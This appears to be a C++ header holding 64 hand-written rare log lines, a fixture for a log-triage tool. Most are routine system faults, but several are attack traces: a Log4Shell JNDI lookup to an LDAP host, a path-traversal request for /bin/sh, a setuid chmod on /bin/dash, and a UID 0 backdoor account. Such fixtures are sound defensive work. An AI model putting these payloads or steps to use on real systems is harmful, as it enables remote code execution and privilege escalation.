#pragma once
// Lines that occur once in a log and match none of its templates: what a triage must not lose.

#include <array>
#include <string_view>

namespace decode {

/// Written by hand, of varied shape and length. None holds a word of the never-drop patterns. Those that
/// begin with '|' stand without a time stamp, as continuation lines and stray output do.
inline constexpr std::array<std::string_view, 64> rare_lines = {
    "kernel: BUG: unable to handle page fault for address: ffffa0c3d1e00010",
    "kernel: Out of memory: Killed process 2231 (java) total-vm:9184732kB, anon-rss:7012340kB",
    "kernel: EXT4-fs warning (device sda1): ext4_end_bio:343: I/O trouble 10 writing to inode 262147",
    "kernel: mce: [Hardware]: Machine check events logged",
    "kernel: nvme nvme0: controller is down; will reset: CSTS=0xffffffff, PCI_STATUS=0x10",
    "kernel: CPU3: Core temperature above threshold, cpu clock throttled",
    "kernel: watchdog: BUG: soft lockup - CPU#1 stuck for 23s! [kworker/1:2:418]",
    "kernel: device veth41ac entered promiscuous mode",
    "kernel: possible tampering detected: rtc0 set back by 86400 seconds",
    "kernel: clocksource: timekeeping watchdog marks tsc unstable because the skew is too large",
    "sshd[911]: Accepted keyboard-interactive/pam for root from 203.0.113.66 port 4444 ssh2",
    "sshd[911]: maximum authentication attempts exceeded for backup from 198.51.100.7",
    "sshd[14]: Bad protocol version identification '\\003' from 192.0.2.17",
    "sshd[14]: Received signal 15; terminating.",
    "sudo: www-data : user NOT in sudoers ; TTY=pts/3 ; PWD=/tmp/.x ; COMMAND=/bin/chmod u+s /bin/dash",
    "useradd[7719]: new user: name=svc_upd4te, UID=0, GID=0, home=/dev/shm",
    "passwd[7720]: pam_unix(passwd:chauthtok): password changed for root",
    "crontab[3021]: (nobody) REPLACE (nobody)",
    "auditd[388]: Audit daemon is low on disk space for logging",
    "systemd[1]: Timed out waiting for device dev-disk-by\\x2duuid-7d2c.device.",
    "systemd[1]: postgresql.service: Main process exited, code=killed, status=11/SEGV",
    "systemd[1]: Freezing execution.",
    "systemd-resolved[402]: DNSSEC validation of example.org IN DS has become bogus: signature-expired",
    "systemd-timesyncd[377]: System clock jumped 3.2 days into the past",
    "postgres[880]: WARNING:  database \"orders\" must be vacuumed within 982104 transactions",
    "postgres[880]: invalid page in block 4711 of relation base/16384/2619",
    "postgres[880]: deadlock detected; process 4410 waits for ShareLock on transaction 90211, blocked by "
    "4398",
    "postgres[880]: could not fsync file \"pg_wal/000000010000000A\": Input/output trouble",
    "postgres[880]: DROP TABLE invoices_archive_2019 CASCADE",
    "nginx[52]: 1024 worker_connections are not enough while connecting to upstream",
    "nginx[52]: SSL_do_handshake() failed (SSL: wrong version number) while SSL handshaking to upstream",
    "nginx[52]: 45.155.204.3 \"GET /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1\" 400",
    "nginx[52]: 185.220.101.4 \"${jndi:ldap://198.51.100.99:1389/a}\" 418",
    "nginx[52]: certificate for shop.example.com expires in 2 days",
    "orders[640]: {\"level\":\"warn\",\"msg\":\"negative stock\",\"sku\":\"TEA-0042\",\"left\":-3}",
    "orders[640]: {\"level\":\"panic\",\"msg\":\"index out of range [5] with length 5\",\"goroutine\":88}",
    "orders[640]: refund exceeds the captured amount; giving up and asking a human",
    "orders[640]: currency table is 41 days old",
    "orders[640]: unexpected enum value PENDING_REVIEW_BY_LEGAL, treated as OPEN",
    "kubelet[701]: eviction manager: must evict pod(s) to reclaim ephemeral-storage",
    "kubelet[701]: PLEG is not healthy: pleg was last seen active 3m7s ago; threshold is 3m0s",
    "kubelet[701]: node has been tainted with node.kubernetes.io/disk-pressure:NoSchedule",
    "kubelet[701]: Back-off restarting container; CrashLoopBackOff reached for billing-6f9c",
    "containerd[655]: failed to pull image: manifest unknown; maybe it was deleted upstream",
    "smartd[290]: Device: /dev/sdb [SAT], 8 Currently unreadable (pending) sectors",
    "mdadm[301]: DegradedArray event detected on md device /dev/md0",
    "ntpd[377]: no peer is reachable, switching to the local oscillator",
    "dhclient[345]: DHCPNAK from 10.0.0.1; someone else holds our lease",
    "haproxy[510]: backend be_search has no server available!",
    "redis[566]: MISCONF snapshots cannot be persisted, writes are disabled",
    "rabbitmq[577]: memory resource limit alarm set on node rabbit@a; publishers will be blocked",
    "clamd[610]: /srv/upload/8812.zip: Win.Trojan.Agent-36124 FOUND",
    "backup[9100]: checksum of chunk 0x3fe1 differs from the manifest, keeping both",
    "operator: who moved the cable? rack 4 went dark for a moment",
    "operator: please ignore the smoke detector on floor 2, it is being tested",
    "|Traceback (most recent call last):",
    "|    at com.example.billing.TaxRules.lookup(TaxRules.java:311)",
    "|#0  0x00007f3a9c1e5e90 in __GI_raise (sig=sig@entry=6) at raise.c:50",
    "|*** stack smashing detected ***: terminated",
    "|Segmentation fault (core dumped)",
    "|thread 'tokio-runtime-worker' panicked at 'called `Option::unwrap()` on a `None` value'",
    "|00000000  7f 45 4c 46 02 01 01 00  00 00 00 00 00 00 00 00  |.ELF............|",
    "|Die Datei oder das Verzeichnis ist nicht vorhanden",
    "|no space left",
};

}  // namespace decode
